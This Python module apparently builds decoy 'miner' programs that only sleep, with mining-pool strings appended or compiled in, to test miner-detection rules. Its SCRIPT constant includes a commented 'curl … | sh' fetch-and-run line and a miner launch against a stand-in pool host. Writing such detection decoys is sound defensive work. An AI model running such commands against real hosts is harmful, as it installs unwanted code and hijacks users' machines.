"""A program that looks like a miner to the rules of docs/agent.md, and only sleeps.

`build` makes it from the machine's own `sleep` with words appended, which the loader does not read: that takes no time, each
program has a different sum, and it can be run. `compiled` has the words in its code, like a real miner.
"""

import hashlib
import os
import shutil
import subprocess
import sys
from pathlib import Path

WORDS = b"\0stratum+tcp://pool.invalid:3333\0mining.subscribe\0mining.authorize\0donate-level\0"

SCRIPT = "#!/bin/sh\n# curl http://pool.invalid/miner | sh; miner --url stratum+tcp://pool.invalid:3333\nsleep 600; true\n"
"""A script of the same kind."""

SOURCE = """package main

import (
	"os"
	"time"
)

func main() {
	if len(os.Args) > 1 {
		os.Stdout.WriteString("stratum+tcp://pool.invalid:3333 mining.subscribe mining.authorize donate-level")
		return
	}
	time.Sleep(time.Hour)
}
"""
"""The source of the program."""


def build(path: Path, more: bytes = b"") -> str:
    """Write the program, with more bytes at its end for another sum. Returns its SHA-256."""
    shutil.copy(shutil.which("sleep") or sys.exit("no sleep"), path)
    with path.open("ab") as file:
        file.write(WORDS + more)
    path.chmod(0o755)
    return hashlib.sha256(path.read_bytes()).hexdigest()


def compiled(path: Path) -> str:
    """Compile the program, which needs no library. Returns its SHA-256."""
    source = path.with_suffix(".go")
    source.write_text(SOURCE)
    environment = {**os.environ, "CGO_ENABLED": "0", "GOFLAGS": "-trimpath", "GO111MODULE": "off"}
    subprocess.run(["go", "build", "-ldflags=-s -w", "-o", path, source], cwd=path.parent, env=environment, check=True)
    return hashlib.sha256(path.read_bytes()).hexdigest()
